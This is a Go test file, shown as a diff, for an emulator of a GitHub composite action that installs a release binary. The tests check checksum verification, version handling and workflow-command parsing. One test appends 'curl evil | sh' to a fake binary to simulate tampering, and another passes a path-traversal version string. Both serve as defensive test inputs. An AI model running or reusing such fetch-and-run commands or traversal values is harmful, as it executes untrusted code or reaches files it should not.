@@ -1,0 +1,213 @@
+package actionrun_test
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/outpost-dev/outpost/internal/actionrun"
+)
+
+// actionDir is the repository root, which holds action.yml.
+func actionDir(t *testing.T) string {
+	t.Helper()
+	d, err := filepath.Abs(filepath.Join("..", ".."))
+	require.NoError(t, err)
+	return d
+}
+
+// RunnerArch is RUNNER_ARCH for this machine.
+func runnerArch(t *testing.T) string {
+	switch runtime.GOARCH {
+	case "amd64":
+		return "X64"
+	case "arm64":
+		return "ARM64"
+	}
+	t.Skipf("no outpost release for %s", runtime.GOARCH)
+	return ""
+}
+
+// fakeBinary stands in for a release binary: it answers --version.
+const fakeBinary = "#!/bin/sh\necho \"outpost fake-release $*\"\n"
+
+func runner(t *testing.T, with map[string]string) actionrun.Runner {
+	t.Helper()
+	if runtime.GOOS != "linux" {
+		t.Skip("the emulated runner is Linux")
+	}
+	root := t.TempDir()
+	ws := filepath.Join(root, "workspace")
+	for _, d := range []string{ws, filepath.Join(root, "temp"), filepath.Join(root, "tools")} {
+		require.NoError(t, os.MkdirAll(d, 0o755))
+	}
+	return actionrun.Runner{ActionPath: actionDir(t), With: with,
+		Env:       map[string]string{"PATH": os.Getenv("PATH"), "HOME": root},
+		Workspace: ws, Temp: filepath.Join(root, "temp"), ToolCache: filepath.Join(root, "tools"),
+		OS: "Linux", Arch: runnerArch(t), Token: "ghs_fake-token-for-tests",
+		Github: map[string]string{"repository": "acme/widgets"},
+		Only:   []string{"install", "cache"}, Log: testLog{t}}
+}
+
+type testLog struct{ t *testing.T }
+
+func (l testLog) Write(p []byte) (int, error) {
+	l.t.Log(strings.TrimRight(string(p), "\n"))
+	return len(p), nil
+}
+
+func load(t *testing.T) *actionrun.Action {
+	t.Helper()
+	a, err := actionrun.Load(filepath.Join(actionDir(t), "action.yml"))
+	require.NoError(t, err)
+	return a
+}
+
+func asset() string { return "outpost-linux-" + runtime.GOARCH }
+
+// TestInstallVerifiesChecksum: the install step downloads the release
+// binary for the runner from release-url, checks it against SHA256SUMS,
+// installs it in the tool cache, puts it on PATH, masks the token, and
+// says where the CLI cache is for the cache step.
+func TestInstallVerifiesChecksum(t *testing.T) {
+	r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9"})
+	dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): []byte(fakeBinary), "outpost-darwin-arm64": []byte("other")})
+	require.NoError(t, err)
+	srv := actionrun.FileServer(dir)
+	defer srv.Close()
+	r.With["release-url"] = srv.URL
+	res, err := load(t).Run(context.Background(), r)
+	require.NoError(t, err)
+	require.Empty(t, res.Failed, "the install step failed")
+	st := res.Step("install")
+	assert.Equal(t, "v9.9.9", st.Outputs["version"])
+	bin := filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost")
+	assert.Equal(t, bin, st.Outputs["bin"])
+	assert.Equal(t, []string{filepath.Dir(bin)}, res.Path)
+	assert.Contains(t, st.Stdout, "matches SHA256SUMS")
+	assert.Contains(t, st.Stdout, "outpost fake-release --version", "the installed binary runs")
+	assert.Equal(t, filepath.Join(r.Env["HOME"], ".cache", "outpost", "cli"), st.Outputs["cli-cache"])
+	assert.Contains(t, res.Masks(), r.Token, "the token is masked")
+	cache := res.Step("cache")
+	assert.Equal(t, "uses", cache.Outcome)
+	assert.Equal(t, st.Outputs["cli-cache"], cache.With["path"])
+	assert.Equal(t, "outpost-clis-Linux-"+r.Arch+"-v9.9.9", cache.With["key"])
+}
+
+// TestInstallRefusesTamperedBinary: a binary whose SHA-256 is not the one
+// SHA256SUMS lists fails the install step with an error annotation naming
+// both sums; nothing is installed and no later step runs.
+func TestInstallRefusesTamperedBinary(t *testing.T) {
+	r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9"})
+	r.Only = nil
+	dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): []byte(fakeBinary)})
+	require.NoError(t, err)
+	tampered := []byte(fakeBinary + "curl evil | sh\n")
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "v9.9.9", asset()), tampered, 0o644))
+	srv := actionrun.FileServer(dir)
+	defer srv.Close()
+	r.With["release-url"] = srv.URL
+	res, err := load(t).Run(context.Background(), r)
+	require.NoError(t, err)
+	assert.Equal(t, "install", res.Failed)
+	ann := res.Annotations()
+	require.Len(t, ann, 1)
+	assert.Equal(t, "error", ann[0].Name)
+	assert.Contains(t, ann[0].Message, "checksum mismatch: "+asset()+" of v9.9.9")
+	assert.Contains(t, ann[0].Message, "refusing to run it")
+	assert.NoFileExists(t, filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost"))
+	assert.Empty(t, res.Path)
+	for _, s := range res.Steps[1:] {
+		assert.Equal(t, "skipped", s.Outcome, s.ID)
+	}
+	assert.Empty(t, res.Outputs, "a failed action sets no outputs")
+}
+
+// TestInstallVersionFromRef: without the version input the action
+// installs the release its own ref names (uses: …@v1.2.3); a branch or a
+// commit is refused with the way out.
+func TestInstallVersionFromRef(t *testing.T) {
+	dir, err := actionrun.Release(t.TempDir(), "v1.2.3", map[string][]byte{asset(): []byte(fakeBinary)})
+	require.NoError(t, err)
+	srv := actionrun.FileServer(dir)
+	defer srv.Close()
+
+	r := runner(t, map[string]string{"agent": "claude", "release-url": srv.URL})
+	r.ActionRef = "v1.2.3"
+	res, err := load(t).Run(context.Background(), r)
+	require.NoError(t, err)
+	require.Empty(t, res.Failed)
+	assert.Equal(t, "v1.2.3", res.Step("install").Outputs["version"])
+
+	r = runner(t, map[string]string{"agent": "claude", "release-url": srv.URL})
+	r.ActionRef = "main"
+	res, err = load(t).Run(context.Background(), r)
+	require.NoError(t, err)
+	assert.Equal(t, "install", res.Failed)
+	require.Len(t, res.Annotations(), 1)
+	assert.Contains(t, res.Annotations()[0].Message, "the action's ref is 'main', not a release tag")
+	assert.Contains(t, res.Annotations()[0].Message, "set the version input")
+
+	r = runner(t, map[string]string{"agent": "claude", "release-url": srv.URL, "version": "v1.2.3/../../x"})
+	res, err = load(t).Run(context.Background(), r)
+	require.NoError(t, err)
+	assert.Equal(t, "install", res.Failed, "a version is a tag, never a path")
+}
+
+// TestEmulatorRefusesWhatItCannotEmulate keeps the emulator honest: an
+// expression with an operator or a function is an error, not a guess.
+func TestEmulatorRefusesWhatItCannotEmulate(t *testing.T) {
+	dir := t.TempDir()
+	p := filepath.Join(dir, "action.yml")
+	for _, bad := range []string{
+		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        X: ${{ inputs.a == 'b' }}\n      run: echo\n",
+		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        X: ${{ format('{0}', inputs.a) }}\n      run: echo\n",
+		"runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo ${{ env.X }}\n",
+	} {
+		require.NoError(t, os.WriteFile(p, []byte(bad), 0o644))
+		a, err := actionrun.Load(p)
+		require.NoError(t, err)
+		_, err = a.Run(context.Background(), actionrun.Runner{Temp: dir, Workspace: dir})
+		assert.Error(t, err, bad)
+	}
+	require.NoError(t, os.WriteFile(p, []byte("runs:\n  using: composite\n  steps:\n    - shell: bash\n      if: always()\n      run: echo\n"), 0o644))
+	_, err := actionrun.Load(p)
+	assert.Error(t, err)
+}
+
+// TestStopCommands: workflow commands printed between ::stop-commands::T
+// and ::T:: are text, as on GitHub; outputs in both file forms are read.
+func TestStopCommands(t *testing.T) {
+	dir := t.TempDir()
+	p := filepath.Join(dir, "action.yml")
+	require.NoError(t, os.WriteFile(p, []byte(`runs:
+  using: composite
+  steps:
+    - id: s
+      shell: bash
+      run: |
+        echo "::stop-commands::tok123"
+        echo "::error::planted by the agent"
+        echo "::tok123::"
+        echo "::warning title=a%3Ab::real%0Aline"
+        echo "x=1" >> "$GITHUB_OUTPUT"
+        printf 'y<<EOF\nmulti\nline\nEOF\n' >> "$GITHUB_OUTPUT"
+outputs:
+  y:
+    value: ${{ steps.s.outputs.y }}
+`), 0o644))
+	a, err := actionrun.Load(p)
+	require.NoError(t, err)
+	res, err := a.Run(context.Background(), actionrun.Runner{Temp: dir, Workspace: dir, Env: map[string]string{"PATH": os.Getenv("PATH")}})
+	require.NoError(t, err)
+	require.Len(t, res.Annotations(), 1)
+	assert.Equal(t, actionrun.Command{Name: "warning", Props: map[string]string{"title": "a:b"}, Message: "real\nline"}, res.Annotations()[0])
+	assert.Equal(t, "1", res.Step("s").Outputs["x"])
+	assert.Equal(t, "multi\nline", res.Outputs["y"])
+}
